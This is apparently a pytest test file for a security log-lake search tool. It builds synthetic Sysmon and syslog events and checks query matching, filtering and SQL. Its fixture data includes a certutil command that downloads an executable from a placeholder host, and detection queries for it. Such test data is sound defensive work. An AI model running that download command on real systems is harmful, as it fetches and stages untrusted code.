from datetime import UTC, datetime, timedelta

import pytest

from tocsin.core.errors import InvalidInputError, QuerySyntaxError
from tocsin.lake.reader import LakeReader
from tocsin.lake.writer import LakeWriter

T0 = datetime(2026, 11, 1, tzinfo=UTC)


def make(i, dataset, **fields):
    return {
        "event.id": f"{dataset}-{i}",
        "@timestamp": T0 + timedelta(hours=i),
        "event.ingested": T0 + timedelta(hours=i),
        "event.dataset": dataset,
        "event.original": fields.pop("original", f"{dataset} record {i}"),
        **fields,
    }


@pytest.fixture
def lake(tmp_path):
    writer = LakeWriter(tmp_path)
    # ten files of windows.sysmon, one per day, plus a syslog dataset without CommandLine
    for day in range(10):
        writer.add(
            [
                make(
                    day * 24 + h,
                    "windows.sysmon",
                    EventID=1,
                    Computer=f"WS-{h % 3}",
                    CommandLine=(
                        "certutil.exe -urlcache -f http://x/a.exe"
                        if h == 5
                        else f"chrome.exe --id={h}"
                    ),
                )
                for h in range(24)
            ]
        )
        writer.flush()
    writer.add(
        [
            make(i, "syslog", message=f"sshd failed password {i}", original=f"<34>sshd {i}")
            for i in range(0, 240, 10)
        ]
    )
    writer.flush()
    return tmp_path


def test_newest_first_with_limit_and_early_stop(lake):
    reader = LakeReader(lake)
    reader.first_wave_rows = 30  # read a file or two at a time, as with big files
    result = reader.search("CommandLine:*certutil*", limit=3)
    stamps = [e["@timestamp"] for e in result.events]
    assert stamps == sorted(stamps, reverse=True)
    assert [e["event.id"] for e in result.events] == [
        "windows.sysmon-221",
        "windows.sysmon-197",
        "windows.sysmon-173",
    ]
    assert result.files_total == 20  # events ingested over 11 days: 20 (dataset, day) files
    # the newest files held enough hits: the rest were never read
    assert result.files_scanned < result.files_total


def test_count_and_case_insensitive_matching(lake):
    reader = LakeReader(lake)
    assert reader.count("CommandLine:*CERTUTIL*") == 10
    assert reader.count("Computer:ws-1") == 80
    assert reader.count("") == 240 + 24


def test_free_text_matches_anywhere_across_datasets(lake):
    reader = LakeReader(lake)
    assert reader.count("sshd") == 24
    assert reader.count("record") == 240
    result = reader.search("record OR sshd", limit=1000)
    assert {e["event.dataset"] for e in result.events} == {"windows.sysmon", "syslog"}


def test_field_missing_from_a_dataset(lake):
    reader = LakeReader(lake)
    assert reader.count("CommandLine:*", datasets=["syslog"]) == 0
    # NOT of a field the dataset lacks matches, as in KQL
    assert reader.count("NOT CommandLine:*certutil*", datasets=["syslog"]) == 24
    assert reader.count("message:*failed*") == 24


def test_time_range_and_dataset_filters(lake):
    reader = LakeReader(lake)
    since = T0 + timedelta(days=2)
    until = T0 + timedelta(days=3) - timedelta(microseconds=1)
    assert reader.count("", since=since, until=until, datasets=["windows.sysmon"]) == 24
    result = reader.search("EventID:1", since=since, until=until, limit=500)
    assert len(result.events) == 24
    # file names carry their span: of 20 files only the two overlapping the day are read
    assert result.files_scanned == result.files_total == 2
    oldest = reader.search("", limit=2, oldest_first=True)
    assert [e["event.id"] for e in oldest.events] == ["windows.sysmon-0", "syslog-0"] or [
        e["event.id"] for e in oldest.events
    ] == ["syslog-0", "windows.sysmon-0"]


def test_syntax_error_carries_the_column(lake):
    with pytest.raises(QuerySyntaxError) as info:
        LakeReader(lake).search("EventID:1 AND (Computer:x")
    assert info.value.column == 15


def test_raw_sql_over_the_events_view(lake):
    table = LakeReader(lake).sql(
        'SELECT "event.dataset" AS d, count(*) AS n FROM events GROUP BY 1 ORDER BY 1'
    )
    assert table.to_pylist() == [{"d": "syslog", "n": 24}, {"d": "windows.sysmon", "n": 240}]
    limited = LakeReader(lake).sql("SELECT * FROM events", limit=5)
    assert limited.num_rows == 5
    with pytest.raises(InvalidInputError, match="SQL failed"):
        LakeReader(lake).sql("SELECT * FROM nowhere")


def test_empty_lake(tmp_path):
    reader = LakeReader(tmp_path)
    assert reader.search("anything").events == []
    assert reader.count("anything") == 0
    assert reader.sql("SELECT count(*) AS n FROM events").to_pylist() == [{"n": 0}]
